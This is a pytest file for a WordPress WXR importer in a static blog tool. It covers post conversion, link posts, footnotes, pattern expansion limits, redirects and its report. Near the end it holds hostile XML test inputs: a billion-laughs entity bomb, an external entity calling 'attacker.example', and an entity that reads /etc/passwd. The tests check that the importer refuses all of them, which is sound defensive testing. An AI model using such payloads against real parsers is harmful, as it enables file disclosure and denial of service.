"""`linkblog import wordpress`: a WXR export, field by field, its safety cases, and the report (#16)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import CONFIG, Run, make_site, run_cli, tree_bytes
from test_import_helpers import FIXTURES, assert_builds, fresh_site, posts_of, read_imported
from test_import_writer import redirect_target

from linkblog.importers.wordpress import MAX_PATTERN_TEXT, convert_content

EXPORT = FIXTURES / "wordpress.xml"
PUBLISHED = [
    "2015-06-01-busy-is-not-progress.md",
    "2015-06-03-work-vs-progress.md",
    "2015-06-20-some-customers-suck.md",
    "2015-06-25-work-vs-progress-2.md",
    "2015-07-11-über-kundenservice-日本.md",
]
DRAFTS = ["2016-02-01-half-written-thoughts.md", "2016-02-02-waiting-for-review.md", "2016-02-03-private-notes.md"]
CEST = timezone(timedelta(hours=2))


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory):
    """The fixture export imported once (without drafts) into a fresh site: the run and the site."""
    site = fresh_site(tmp_path_factory.mktemp("wp") / "site")
    return run_cli(site, "import", "wordpress", str(EXPORT)), site


def test_published_posts_only_become_files(imported) -> None:
    done, site = imported
    assert done.code == 0, done.err
    assert sorted(p.name for p in (site / "posts").iterdir()) == PUBLISHED


def test_a_rich_post_field_by_field(imported) -> None:
    post = posts_of(imported[1])["2015-06-01-busy-is-not-progress.md"]
    assert post.meta["title"] == "Busy is not progress"
    # post_date against post_date_gmt: the blog's own offset, written with the date.
    assert post.meta["date"] == datetime(2015, 6, 1, 9, 30, tzinfo=CEST)
    assert "date: 2015-06-01 09:30:00+02:00" in post.text
    assert post.meta["tags"] == ["Management", "work", "Teams & People"]  # Uncategorized dropped
    assert post.meta["author"] == "Sheri Jones"
    assert "slug" not in post.meta and post.parsed.slug == "busy-is-not-progress"
    assert post.meta["summary"].endswith("Teams can look very busy and still go nowhere. Nobody notices until the "
                                         "deadline.")
    assert "link" not in post.meta and "draft" not in post.meta


def test_a_rich_post_body_as_markdown(imported) -> None:
    body = posts_of(imported[1])["2015-06-01-busy-is-not-progress.md"].body
    # [caption]: the linked image, then its caption.
    assert body.startswith("[![A busy office](https://supportnotes.example.com/wp-content/uploads/2015/06/header.jpg)]"
                           "(https://supportnotes.example.com/wp-content/uploads/2015/06/header.jpg)\n\n"
                           "*Everyone is busy; is anyone moving?*\n\n")
    # wpautop: a single newline is a line break, a blank line a paragraph.
    assert "Teams can look *very* busy and still go nowhere.\\\nNobody notices until the deadline.\n\n" in body
    assert "\n\n<!--more-->\n\n## Why it happens\n\n" in body
    assert ("> On poorly managed teams conflicting and irrelevant work is allowed to go on.\n>\n"
            "> Work is not progress.\n>\n> — Scott Berkun\n") in body
    assert "- Work nobody asked for\n  - and nobody **reads**\n  - or ships\n- Meetings about meetings\n" in body
    assert "1. Count the open tickets\n2. Count the closed ones\n" in body
    assert "```python\ndef ratio(closed, opened):\n\n    return closed / opened if opened > 0 else 0\n```" in body
    assert "Use `ratio()` weekly. See [Goodhart's law](https://en.wikipedia.org/wiki/Goodhart%27s_law)" in body


def test_html_markdown_cannot_say_is_kept(imported) -> None:
    post = posts_of(imported[1])["2015-06-01-busy-is-not-progress.md"]
    page = BeautifulSoup(post.parsed.html, "html.parser")
    assert page.find("td", rowspan="2").get_text() == "Week"
    assert page.find("table", class_="stats") is not None
    assert page.find("iframe")["src"] == "https://www.youtube.com/embed/dQw4w9WgXcQ"
    assert post.body.rstrip().endswith('[gallery ids="11,13,14" columns="3"]')


def test_unknown_shortcode_is_reported(imported) -> None:
    done = imported[0]
    assert "wordpress.xml: post 12" in done.err and "[gallery]" in done.err


def test_link_post_ending_in_title_author_via(imported) -> None:
    post = posts_of(imported[1])["2015-06-03-work-vs-progress.md"]
    assert post.meta["link"] == "https://scottberkun.com/2015/work-vs-progress/"
    assert post.meta["source"] == "Scott Berkun"
    assert post.meta["via"] == {"name": "Nick", "url": "https://nickbradbury.example/"}
    assert post.meta["tags"] == ["Management"]  # the "Link" post format is no tag
    assert post.body == ("> On poorly managed teams conflicting and irrelevant work is allowed to go on, often for "
                         "months.\n\nHow a talent is directed can matter more than the size of the talent.\n")


def test_quote_plus_link_becomes_a_link_post(imported) -> None:
    post = posts_of(imported[1])["2015-06-20-some-customers-suck.md"]
    assert post.meta["link"] == "https://nickbradbury.com/some-customers-suck/"
    assert post.meta["source"] == "nickbradbury.com"
    assert "nickbradbury.com" not in post.body and post.body.endswith("Agreed.\n")


def test_recovered_posts_are_listed_for_review(imported) -> None:
    out = imported[0].out
    assert "Recovered 2 link posts" in out
    assert "posts/2015-06-03-work-vs-progress.md: link https://scottberkun.com/2015/work-vs-progress/, " \
           "source Scott Berkun, via Nick" in out
    assert "posts/2015-06-20-some-customers-suck.md" in out


def test_non_ascii_title_and_percent_encoded_slug(imported) -> None:
    post = posts_of(imported[1])["2015-07-11-über-kundenservice-日本.md"]
    assert post.meta["title"] == "Über Kundenservice: 日本のサポート"
    assert post.parsed.slug == "über-kundenservice-日本"
    assert post.meta["tags"] == ["Kundenservice", "日本"]
    assert post.meta["summary"] == "How Japanese service anticipates the question."  # the WordPress excerpt
    # A Gutenberg post: block comments gone, the quote block's <cite> as its last line.
    assert "wp:" not in post.body
    assert "> The customer should never have to ask twice.\n>\n> — Keiko Tanaka\n" in post.body
    assert "link" not in post.meta  # more commentary than quote: not a link post


def test_same_slug_in_one_month_gets_a_suffix(imported) -> None:
    post = posts_of(imported[1])["2015-06-25-work-vs-progress-2.md"]
    assert post.meta["title"] == "Work vs. Progress"
    assert post.parsed.slug == "work-vs-progress-2"
    assert "link" not in post.meta  # its only link goes to the blog itself


def test_report_counts_what_was_skipped(imported) -> None:
    out = imported[0].out
    assert "Imported 5 posts into posts/: 5 new" in out
    for reason in ("attachment ×1", "comment ×2", "nav_menu_item ×1", "page ×1", "post type 'jetpack-portfolio' ×1",
                   "draft (use --drafts) ×1", "pending (use --drafts) ×1", "private (use --drafts) ×1"):
        assert reason in out


def test_report_names_what_was_skipped(imported) -> None:
    lines = imported[0].out.splitlines()
    assert "  draft (use --drafts): 'Half-written thoughts'" in lines
    assert "  private (use --drafts): 'Private notes'" in lines
    assert "  page: 'About'" in lines


def test_imported_site_builds(imported) -> None:
    assert_builds(imported[1])


def test_rerun_changes_nothing(imported) -> None:
    site = imported[1]
    before = tree_bytes(site / "posts")
    done = run_cli(site, "import", "wordpress", str(EXPORT))
    assert done.code == 0
    assert "0 new, 5 unchanged" in done.out
    assert tree_bytes(site / "posts") == before


def test_each_post_s_old_permalink_becomes_a_page_sending_readers_to_it(imported) -> None:
    # Most blogs moved off WordPress keep their domain: the old links must still lead to the posts.
    site = imported[1]
    posts = posts_of(site)
    assert posts["2015-06-01-busy-is-not-progress.md"].meta["aliases"] == ["/2015/06/01/busy-is-not-progress/"]
    assert posts["2015-07-11-über-kundenservice-日本.md"].meta["aliases"] == ["/2015/07/10/über-kundenservice/"]
    assert run_cli(site, "build").code == 0
    assert redirect_target(site, "/2015/06/01/busy-is-not-progress/") == "/2015/06/busy-is-not-progress/"
    assert redirect_target(site, "/2015/06/25/work-vs-progress-2/") == "/2015/06/work-vs-progress-2/"
    assert redirect_target(site, "/2015/07/10/über-kundenservice/").startswith("/2015/07/%C3%BCber-kundenservice")


def test_a_plain_permalink_with_a_query_is_no_old_address(tmp_path: Path) -> None:
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "wordpress", str(EXPORT), "--drafts").code == 0
    posts = posts_of(site)
    assert "aliases" not in posts[DRAFTS[0]].meta  # https://supportnotes.example.com/?p=30
    assert posts[DRAFTS[2]].meta["aliases"] == ["/2016/02/03/private-notes/"]
    assert_builds(site)


@pytest.mark.parametrize(("url", "aliases"), [
    ("https://example.org/", ["/2010/05/04/old-times/"]),  # a new home: the blog's own paths
    ("https://www.old.example.com/", ["/blog/2010/05/04/old-times/"]),  # the same domain: the same address
], ids=["elsewhere", "same-domain"])
def test_a_blog_in_a_folder_keeps_its_old_address(tmp_path: Path, url: str, aliases: list[str]) -> None:
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2").replace("http://old.example.com", "http://old.example.com/blog").replace(
        "/blog/?p=1", "/blog/2010/05/04/old-times/"), encoding="utf-8")
    site = make_site(tmp_path / "site", config=CONFIG.replace("https://example.org/", url))
    assert run_cli(site, "import", "wordpress", str(export)).code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").meta["aliases"] == aliases
    assert run_cli(site, "build").code == 0
    assert redirect_target(site, aliases[0]) == "/2010/05/old-times/"


def test_drafts_with_drafts_flag(tmp_path: Path) -> None:
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(EXPORT), "--drafts")
    assert done.code == 0, done.err
    assert sorted(p.name for p in (site / "posts").iterdir()) == sorted(PUBLISHED + DRAFTS)
    draft = read_imported(site / "posts" / DRAFTS[0])
    assert draft.meta["draft"] is True
    # No GMT date: post_date in the site's zone (UTC here).
    assert draft.meta["date"] == datetime(2016, 2, 1, 8, 0, tzinfo=UTC)
    assert read_imported(site / "posts" / DRAFTS[1]).meta["date"] == datetime(
        2016, 2, 2, 10, 0, tzinfo=timezone(timedelta(hours=1)))
    assert all(read_imported(site / "posts" / name).meta["draft"] is True for name in DRAFTS)


def test_clash_is_listed_and_force_overwrites(tmp_path: Path) -> None:
    site = fresh_site(tmp_path / "site")
    mine = site / "posts" / "2015-06-03-work-vs-progress.md"
    mine.write_text("---\ntitle: Mine\ndate: 2015-06-03\n---\nMy own words.\n", encoding="utf-8")
    done = run_cli(site, "import", "wordpress", str(EXPORT))
    assert done.code == 1
    assert "Not written: 1 file" in done.out and "posts/2015-06-03-work-vs-progress.md" in done.out
    assert mine.read_text(encoding="utf-8").endswith("My own words.\n")
    assert (site / "posts" / PUBLISHED[0]).exists()  # the others are written
    forced = run_cli(site, "import", "wordpress", str(EXPORT), "--force")
    assert forced.code == 0, forced.err
    assert "1 overwritten" in forced.out
    assert read_imported(mine).meta["source"] == "Scott Berkun"


@pytest.mark.parametrize("version", ["1.0", "1.1"])
def test_older_wxr_versions(tmp_path: Path, version: str) -> None:
    text = EXPORT.read_text(encoding="utf-8").replace("export/1.2/", f"export/{version}/")
    export = tmp_path / "old.xml"
    export.write_text(text.replace("<wp:wxr_version>1.2<", f"<wp:wxr_version>{version}<"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    assert sorted(p.name for p in (site / "posts").iterdir()) == PUBLISHED


def test_wxr_1_0_categories_without_domain(tmp_path: Path) -> None:
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.0", "<category><![CDATA[Support]]></category>"
                                     "<category><![CDATA[Uncategorized]]></category>"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "wordpress", str(export)).code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").meta["tags"] == ["Support"]


def test_title_as_escaped_text_keeps_its_angle_brackets(tmp_path: Path) -> None:
    # WordPress 3.x wrote titles as escaped text: `&lt;html&gt;` is part of the title, not a tag.
    export = tmp_path / "old.xml"
    text = minimal_export("1.1").replace("<title>Old times</title>",
                                         "<title>Some &lt;html&gt; in it. You can&#039;t miss it</title>")
    export.write_text(text, encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "wordpress", str(export)).code == 0
    post = read_imported(site / "posts" / "2010-05-04-old-times.md")
    assert post.meta["title"] == "Some <html> in it. You can't miss it"


def test_title_as_cdata_html_loses_its_tags(tmp_path: Path) -> None:
    export = tmp_path / "new.xml"
    text = minimal_export("1.2").replace("<title>Old times</title>",
                                         "<title><![CDATA[Old <em>times</em> &amp; new]]></title>")
    export.write_text(text, encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "wordpress", str(export)).code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").meta["title"] == "Old times & new"


def test_export_in_euc_jp(tmp_path: Path) -> None:
    # An old Japanese blog's charset; expat cannot read it itself (it was a traceback).
    export = tmp_path / "euc.xml"
    text = minimal_export("1.0", "<category><![CDATA[日記]]></category>", "<p>静かな朝です。</p>")
    text = text.replace('encoding="UTF-8"', 'encoding="EUC-JP"').replace("<title>Old times", "<title>東京の朝")
    export.write_bytes(text.encode("euc_jp"))
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    post = read_imported(site / "posts" / "2010-05-04-old-times.md")
    assert (post.meta["title"], post.meta["tags"], post.body) == ("東京の朝", ["日記"], "静かな朝です。\n")


def test_wordpress_com_export_with_undeclared_atom_prefix(tmp_path: Path) -> None:
    # WordPress.com writes <atom:link> into its exports without declaring atom:, which no XML parser accepts.
    export = tmp_path / "wpcom.xml"
    atom = '<atom:link rel="search" type="application/opensearchdescription+xml" href="http://old.example.com/osd.xml"/>'
    export.write_text(minimal_export("1.2").replace("<wp:wxr_version>", atom + "<wp:wxr_version>"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").meta["title"] == "Old times"


def test_text_before_the_xml_declaration_is_named_at_its_line(tmp_path: Path) -> None:
    export = tmp_path / "export.xml"
    export.write_text("\n\n" + minimal_export("1.2"), encoding="utf-8")  # a plugin's blank lines before the export
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 1 and "Traceback" not in done.err
    (line,) = done.err.strip().splitlines()
    assert line.startswith(f"{export}:3: ") and "before the XML declaration" in line
    assert list((site / "posts").iterdir()) == []


def test_html_nested_too_deep_to_convert_is_kept_as_html_and_named_once(tmp_path: Path) -> None:
    deep = "".join(f"<div><font>part {i}" for i in range(150))  # 300 levels, never closed
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content=f"{deep}<!--more-->{deep}"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    assert len([line for line in done.err.splitlines() if line.startswith(f"{export}: post 1")]) == 1
    post = read_imported(site / "posts" / "2010-05-04-old-times.md")
    assert BeautifulSoup(post.parsed.html, "html.parser").get_text().count("part 149") == 2
    assert_builds(site)


def footnotes_meta(value: str) -> str:
    """The postmeta where the block editor (WordPress 6.3+) keeps a post's footnotes."""
    return f"<wp:postmeta><wp:meta_key>footnotes</wp:meta_key><wp:meta_value><![CDATA[{value}]]></wp:meta_value>" \
           "</wp:postmeta>"


FOOTNOTED = ('<!-- wp:paragraph --><p>A claim<sup data-fn="f-1" class="fn"><a href="#f-1" id="f-1-link">1</a></sup>'
             ' and more.</p><!-- /wp:paragraph --><!-- wp:footnotes /-->')


def imported_footnotes(tmp_path: Path, notes: str, content: str = FOOTNOTED) -> tuple[Run, Path, Path]:
    """A one-post export of this content and footnotes meta, imported into a fresh site: the run, site and export."""
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", footnotes_meta(notes), content), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    return run_cli(site, "import", "wordpress", str(export)), site, export


def test_block_editor_footnotes_become_footnotes(tmp_path: Path) -> None:
    notes = '[{"content":"See <a href=\\"https://src.example/\\">the <em>source</em></a>.","id":"f-1"}]'
    done, site, export = imported_footnotes(tmp_path, notes)
    assert done.code == 0 and done.err == "", done.err
    assert_builds(site)
    page = BeautifulSoup((site / "build/2010/05/old-times/index.html").read_text(encoding="utf-8"), "html.parser")
    mark = page.select_one(".e-content p sup a")
    note = page.find(id=mark["href"].lstrip("#"))
    assert " ".join(note.get_text().split()).startswith("See the source.")
    assert note.find("a", href="https://src.example/").find("em").get_text() == "source"


def test_a_footnote_mark_without_its_note_is_named(tmp_path: Path) -> None:
    notes = '[{"content":"First.","id":"f-1"}]'
    content = FOOTNOTED.replace(" and more.", ' two<sup data-fn="f-2" class="fn"><a href="#f-2" id="f-2-link">2</a>'
                                              "</sup>.")
    done, site, export = imported_footnotes(tmp_path, notes, content)
    assert done.code == 0
    assert [line for line in done.err.splitlines() if "warning" in line] == [
        f"{export}: post 1: warning: footnote mark 'f-2' has no footnote text in the export, so it links "
        "nowhere: write its footnote or remove the mark"]


@pytest.mark.parametrize("notes", ['[{"content": "Unclosed', '{"content": "x", "id": "f-1"}', "[1, 2]"])
def test_footnotes_that_are_not_a_list_of_notes_are_named(tmp_path: Path, notes: str) -> None:
    done, site, export = imported_footnotes(tmp_path, notes)
    assert done.code == 0
    assert [line for line in done.err.splitlines() if line.startswith(f"{export}: post 1") and "footnotes" in line]
    assert "Traceback" not in done.err
    assert "A claim" in read_imported(site / "posts" / "2010-05-04-old-times.md").body


def test_a_footnote_without_its_mark_is_kept_and_named(tmp_path: Path) -> None:
    notes = '[{"content":"Marked.","id":"f-1"},{"content":"Its mark was deleted.","id":"f-2"}]'
    done, site, export = imported_footnotes(tmp_path, notes)
    assert done.code == 0
    assert "Its mark was deleted." in read_imported(site / "posts" / "2010-05-04-old-times.md").body
    warned = [line for line in done.err.splitlines() if line.startswith(f"{export}: post 1")]
    assert len(warned) == 1 and "footnote 2" in warned[0]


def pattern_item(number: int, content: str) -> str:
    """A synced pattern (reusable block): an item of post type wp_block."""
    return (f"<item><title>Pattern {number}</title><content:encoded><![CDATA[{content}]]></content:encoded>"
            f"<wp:post_id>{number}</wp:post_id><wp:status>publish</wp:status><wp:post_type>wp_block</wp:post_type>"
            "</item>")


def test_synced_patterns_are_expanded_from_the_export(tmp_path: Path) -> None:
    content = '<p>Main text.</p><!-- wp:block {"ref":99} /--><p>End.</p><!-- wp:block {"ref":7} /-->'
    patterns = pattern_item(99, '<!-- wp:paragraph --><p>I own <em>shares</em>.</p><!-- /wp:paragraph -->')
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content=content).replace("</channel>", patterns + "</channel>"),
                      encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").body == "Main text.\n\nI own *shares*.\n\nEnd.\n"
    warned = [line for line in done.err.splitlines() if line.startswith(f"{export}: post 1")]
    assert len(warned) == 1 and " 7 " in warned[0]  # the missing pattern, by its id


def test_a_synced_pattern_inside_itself_ends(tmp_path: Path) -> None:
    patterns = pattern_item(5, '<p>Five.</p><!-- wp:block {"ref":6} /-->') + pattern_item(
        6, '<p>Six.</p><!-- wp:block {"ref":5} /--><!-- wp:block {"ref":6} /-->')
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content='<!-- wp:block {"ref":5} /-->').replace(
        "</channel>", patterns + "</channel>"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export), timeout=30)
    assert done.code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").body == "Five.\n\nSix.\n"
    assert any(line.startswith(f"{export}: post 1") and " 5 " in line for line in done.err.splitlines())


def test_patterns_placing_patterns_many_times_over_stop(tmp_path: Path) -> None:
    # Like "billion laughs": each pattern places the next 50 times, 50**6 copies of "ha" in all.
    patterns = "".join(pattern_item(n, f'<!-- wp:block {{"ref":{n + 1}}} /-->' * 50) for n in range(1, 7))
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content='<!-- wp:block {"ref":1} /-->').replace(
        "</channel>", patterns + pattern_item(7, "<p>ha</p>") + "</channel>"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export), timeout=30)
    assert done.code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").body.count("ha") <= 100
    assert any(line.startswith(f"{export}: post 1") and "left out" in line for line in done.err.splitlines())


def test_a_synced_pattern_comment_left_open_does_not_swallow_what_follows(tmp_path: Path) -> None:
    """A wp:block comment's JSON holds no < or > (WordPress writes \\u003c): a match stops at the next tag, which
    also bounds the work (16000 open comments took 18 s when each was read on to the post's end)."""
    content = '<!-- wp:block {"ref":99 --><p>Kept.</p><!-- wp:block {"ref":99} /-->' + "<!-- wp:block {" * 4000
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content=content).replace(
        "</channel>", pattern_item(99, "<p>Ninety-nine.</p>") + "</channel>"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    body = read_imported(site / "posts" / "2010-05-04-old-times.md").body
    assert body.startswith("Kept.\n\nNinety-nine.\n")


def test_patterns_stop_at_the_text_a_post_may_gain(tmp_path: Path) -> None:
    # A 20 KB pattern placed 100 times: 2 MB of post from a 24 KB export, without a bound on the size.
    patterns = pattern_item(7, "<p>" + "word " * 4000 + "</p>")
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content='<!-- wp:block {"ref":7} /-->' * 100).replace(
        "</channel>", patterns + "</channel>"), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    body = read_imported(site / "posts" / "2010-05-04-old-times.md").body
    assert 0 < body.count("word") * len("word ") <= MAX_PATTERN_TEXT
    (warned,) = [line for line in done.err.splitlines() if line.startswith(f"{export}: post 1")]
    assert " 7 " in warned and "left out" in warned


def test_nothing_skipped_is_no_skipped_line(tmp_path: Path) -> None:
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2"), encoding="utf-8")  # no comments, pages or drafts
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    assert done.out.splitlines() == ["Imported 1 post into posts/: 1 new, 0 unchanged, 0 overwritten"]


LINK_FORMAT = '<category domain="post_format" nicename="post-format-link"><![CDATA[Link]]></category>'


@pytest.mark.parametrize("content, link", [
    ('<p><a href="https://article.example/y">A great piece</a> makes the case. <a href="https://b.example/">B</a></p>',
     "https://article.example/y"),
    ('<a href="https://article.example/x">https://article.example/x</a>', "https://article.example/x"),
    # The old blog's own links name no article: the first link going out does.
    ('<p>See <a href="http://old.example.com/earlier/">earlier</a> and <a href="https://b.example/">B</a>.</p>',
     "https://b.example/"),
    ('<p>See <a href="http://old.example.com/earlier/">earlier</a>.</p>', None),
])
def test_a_link_format_post_links_to_its_first_link(tmp_path: Path, content: str, link: str | None) -> None:
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", LINK_FORMAT, content), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 0, done.err
    post = read_imported(site / "posts" / "2010-05-04-old-times.md")
    assert post.meta.get("link") == link and post.meta.get("tags") is None
    if link:
        assert f"Recovered 1 link post (review them):\n  posts/2010-05-04-old-times.md: link {link}\n" in done.out
    else:  # only links to the old blog itself: no article, and said so
        assert "Recovered" not in done.out
        assert "warning: a post in the Link format links to no other site" in done.err


def test_page_links_to_meta_is_the_link(tmp_path: Path) -> None:
    meta = "<wp:postmeta><wp:meta_key>_links_to</wp:meta_key><wp:meta_value>https://article.example/z" \
           "</wp:meta_value></wp:postmeta>"
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", meta), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "wordpress", str(export)).code == 0
    assert read_imported(site / "posts" / "2010-05-04-old-times.md").meta["link"] == "https://article.example/z"


def test_a_block_editor_embed_is_a_link_on_its_own_line(tmp_path: Path) -> None:
    url = "https://www.youtube.com/watch?v=abc"
    content = (f'<p>Watch:</p><!-- wp:embed {{"url":"{url}"}} --><figure class="wp-block-embed is-type-video">'
               f'<div class="wp-block-embed__wrapper">\n{url}\n</div></figure><!-- /wp:embed --><p>After.</p>')
    export = tmp_path / "old.xml"
    export.write_text(minimal_export("1.2", content=content), encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "wordpress", str(export)).code == 0
    body = read_imported(site / "posts" / "2010-05-04-old-times.md").body
    assert body == f"Watch:\n\n<{url}>\n\nAfter.\n"
    assert body == convert_content(f"<p>Watch:</p>[embed]{url}[/embed]<p>After.</p>", "x")[0]


def minimal_export(version: str, categories: str = "", content: str = "Old words.") -> str:
    """A one-post export in the given WXR version."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:wp="http://wordpress.org/export/{version}/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>Old</title><link>http://old.example.com</link><wp:wxr_version>{version}</wp:wxr_version>
<item><title>Old times</title><link>http://old.example.com/?p=1</link><dc:creator>admin</dc:creator>
<content:encoded><![CDATA[{content}]]></content:encoded><wp:post_id>1</wp:post_id>
<wp:post_date>2010-05-04 10:00:00</wp:post_date><wp:post_date_gmt>2010-05-04 10:00:00</wp:post_date_gmt>
<wp:post_name>old-times</wp:post_name><wp:status>publish</wp:status><wp:post_type>post</wp:post_type>
{categories}</item></channel></rss>
"""


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss><channel><wp:wxr_version xmlns:wp="http://wordpress.org/export/1.2/">1.2</wp:wxr_version>
<item><title>&lol4;</title></item></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY remote SYSTEM "http://attacker.example/steal">]>
<rss><channel><item><title>&remote;</title></item></channel></rss>
"""
LOCAL_FILE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&secret;</title></item></channel></rss>
"""
HOSTILE = {
    "billion-laughs": (BILLION_LAUGHS, "refused"),
    "external-entity": (EXTERNAL_ENTITY, "refused"),
    "local-file": (LOCAL_FILE, "refused"),
    "truncated": (EXPORT.read_text(encoding="utf-8")[:6000], "not well-formed XML"),
    "not-xml": ("title,date\nHello,2015-01-01\n", "not well-formed XML"),
    "unknown-version": (minimal_export("1.3"), "unknown WXR version '1.3'"),
    "plain-rss": ("<rss version='2.0'><channel><title>x</title></channel></rss>", "not a WordPress export"),
    "only-pages": (minimal_export("1.2").replace("<wp:post_type>post", "<wp:post_type>page"), "no posts to import"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_bad_exports_are_refused_with_nothing_written(tmp_path: Path, case: str) -> None:
    text, message = HOSTILE[case]
    export = tmp_path / f"{case}.xml"
    export.write_text(text, encoding="utf-8")
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", str(export))
    assert done.code == 1
    lines = done.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{export}") and message in lines[0]
    assert "Traceback" not in done.err and "lol" not in done.err and "root:" not in done.err
    assert list((site / "posts").iterdir()) == []


def test_missing_export_file(tmp_path: Path) -> None:
    site = fresh_site(tmp_path / "site")
    done = run_cli(site, "import", "wordpress", "nope.xml")
    assert done.code == 1 and done.err.strip() == "nope.xml: no such file"


def test_usage_error_exits_2(tmp_path: Path) -> None:
    site = fresh_site(tmp_path / "site")
    assert run_cli(site, "import", "blogger", "x.xml").code == 2
    assert run_cli(site, "import", "wordpress").code == 2
